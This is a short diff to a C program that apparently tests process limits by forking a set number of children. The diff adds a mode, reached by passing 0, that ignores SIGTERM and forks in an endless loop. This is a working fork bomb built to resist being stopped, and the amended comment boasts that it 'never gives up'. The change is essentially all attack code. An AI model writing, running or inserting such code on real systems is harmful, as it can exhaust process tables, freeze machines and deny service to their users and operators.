@@ -1,5 +1,5 @@
 /* SPDX-License-Identifier: Apache-2.0 */
-/* Processes without end; worked if nobody stopped it at the number given. */
+/* Processes without end; worked if nobody stopped it at the number given. With 0 it never gives up, and neither do its children. */
 #include "../attack.h"
 #include <signal.h>
 #include <stdlib.h>
@@ -8,6 +8,10 @@
 
 int main(int argc, char **argv) {
   int wanted = argc > 1 ? atoi(argv[1]) : 2000, made = 0, error = 0;
+  if (argc > 1 && wanted == 0) {
+    signal(SIGTERM, SIG_IGN);
+    for (;;) fork();
+  }
   pid_t *children = calloc(wanted, sizeof *children);
   while (made < wanted) {
     pid_t child = fork();
